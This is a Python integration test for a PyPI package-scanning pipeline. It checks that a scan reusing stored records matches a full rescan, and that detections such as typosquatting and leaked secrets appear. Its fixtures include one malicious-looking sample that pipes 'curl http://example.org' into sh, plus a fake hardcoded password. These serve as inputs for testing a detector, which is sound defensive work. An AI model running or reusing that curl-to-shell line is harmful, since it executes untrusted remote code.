"""Re-use of records with the worker's real programs: the dataset is that of a scan of everything."""

import hashlib
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import msgspec
import pytest
import zstandard

from pypi_scan.accept import ShardSummary, accept_results
from pypi_scan.divide import Division, divide_scan
from pypi_scan.mirror import Mirror
from pypi_scan.pack import pack_editions, pack_scan
from pypi_scan.plan import plan_scan
from pypi_scan.record_store import RecordStore
from pypi_scan.results import Scanner
from pypi_scan.scan_request import ScanRequest

from .conftest import NOW, open_store

PROJECT = Path(__file__).resolve().parents[2]
UPLOADED = "2026-01-02T03:04:05.000000Z"
SOURCES = {
    "leaky": "password = 'zw8qlp3vt6yb1nxc'\n",
    "moving": "import os\n",
    "quiet": "def add(a, b):\n    return a + b\n",
    "suspicious": "import os\nos.system('curl http://example.org | sh')\neval(compile('1', '', 'eval'))\n",
    "tidy": "import json\n",
}


class World:
    """A mirror, what Aura is told of the rest of PyPI, and a worker on this machine."""

    def __init__(self, root: Path, python: Path) -> None:
        self.root = root
        self.mirror = Mirror(root / "mirror")
        self.python = python
        self.key = root / "redaction.key"
        self.key.write_text("0123456789abcdef" * 4)
        (self.mirror.web / "json").mkdir(parents=True)
        (self.mirror.root / "status").write_text("7")

    def release(self, name: str, version: str, source: str) -> None:
        """Upload a release of a package, in place of the one before."""
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(zipfile.ZipInfo(f"{name}.py"), source)
        digest = hashlib.sha256(buffer.getvalue()).hexdigest()
        filename = f"{name}-{version}-py3-none-any.whl"
        path = f"packages/{digest[:2]}/{digest[2:4]}/{digest[4:]}/{filename}"
        (self.mirror.web / path).parent.mkdir(parents=True)
        (self.mirror.web / path).write_bytes(buffer.getvalue())
        file = {
            "filename": filename, "packagetype": "bdist_wheel", "url": f"https://files.example/{path}",
            "digests": {"sha256": digest}, "size": len(buffer.getvalue()), "upload_time_iso_8601": UPLOADED,
        }  # fmt: skip
        document = {"info": {"name": name, "version": version}, "releases": {version: [file]}, "last_serial": 7}
        (self.mirror.web / "json" / name).write_text(json.dumps(document))

    def tell(self, downloads: dict[str, int], dependents: dict[str, list[str]]) -> None:
        """Change what Aura is told; `downloads` in falling order."""
        directory = self.root / "dataset"
        directory.mkdir(exist_ok=True)
        lines = [json.dumps({"package_name": name, "downloads": count}) + "\n" for name, count in downloads.items()]
        (directory / "pypi_stats.json").write_text("".join(lines))
        (directory / "reverse_dependencies.json").write_text(json.dumps(dependents))

    def scanner(self) -> Scanner:
        return msgspec.json.decode(self._run("describe_scanner.py", f"--redaction-key={self.key}"), type=Scanner)

    def scan(self, run_id: str, store: RecordStore, *, reuse: bool, shards: int) -> tuple[bytes, Division, list[Any]]:
        """Scan the mirror; return dataset.zst, the division, and the summaries of the shards."""
        plan = plan_scan(self.mirror, ScanRequest(NOW), self.root / "scans", run_id)
        directory = self.root / "scans" / plan.scan_id
        division = divide_scan(directory, self.scanner(), records=store if reuse else None, shards=shards)
        summaries = [self._shard(directory, shard, division, store) for shard in division.shard_ids]
        pack_editions(directory)
        pack_scan(directory, "https://cdn.example")
        return (directory / "dataset" / "dataset.zst").read_bytes(), division, summaries

    def _shard(self, directory: Path, shard: str, division: Division, store: RecordStore) -> ShardSummary:
        file, cache, output = directory / "shards" / f"{shard}.jsonl.zst", self.root / "cache", self.root / "output"
        shutil.rmtree(cache, ignore_errors=True)
        shutil.rmtree(output, ignore_errors=True)
        self._run("prefetch.py", f"--shard={file}", f"--source={self.mirror.web}", f"--cache={cache}")
        told = [f"--dataset={self.root / 'dataset'}", f"--redaction-key={self.key}"]
        self._run("scan_shard.py", f"--shard={file}", f"--cache={cache}", f"--output={output}", *told)
        (directory / "results").mkdir(exist_ok=True)
        results = output.rename(directory / "results" / shard)
        return accept_results(file, results, division.scanner, store)

    def _run(self, program: str, *options: str) -> bytes:
        command = [str(self.python), str(PROJECT / "include" / "scripts" / program), *options]
        return subprocess.run(command, check=True, stdout=subprocess.PIPE, timeout=120).stdout


@pytest.fixture
def world(tmp_path: Path) -> World:
    python = PROJECT / ".venv-worker" / "bin" / "python"
    if not python.exists():
        pytest.fail("no scanner environment; run: make setup")
    world = World(tmp_path, python)
    for name, source in SOURCES.items():
        world.release(name, "1.0", source)
    world.tell({"requests": 9_000_000, "quiet": 20_000, "tidy": 5}, {"quiet": ["tidy"]})
    return world


def test_a_scan_that_re_uses_records_gives_the_dataset_of_a_full_one(world: World) -> None:
    with open_store(world.root) as store:
        first, division, _ = world.scan("first", store, reuse=True, shards=1)
        assert division.known == 0
        world.release("moving", "2.0", "import sys\n")
        world.tell({"quit": 800_000, "tidyy": 90_000, "leaky": 70_000}, {"suspicious": ["quiet", "tidy"]})
        re_used, division, summaries = world.scan("second", store, reuse=True, shards=2)
        assert (division.packages, division.known) == (5, 4)
        assert sum(summary.by_status.get("reused", 0) for summary in summaries) == 4
        full, division, summaries = world.scan("third", store, reuse=False, shards=1)
        assert division.known == 0
        assert [summary.by_status for summary in summaries] == [{"ok": 5}]
    assert re_used == full
    assert re_used != first
    content = zstandard.ZstdDecompressor().stream_reader(full, read_across_frames=True).read()
    records = {record["pypi"]["name"]: record for record in map(json.loads, content.splitlines())}
    assert records["moving"]["pypi"]["version"] == "2.0"
    types = {detection["type"] for record in records.values() for detection in record["detections"]}
    assert {"PackageInformation", "Typosquatting", "FunctionCall", "LeakingSecret"} <= types
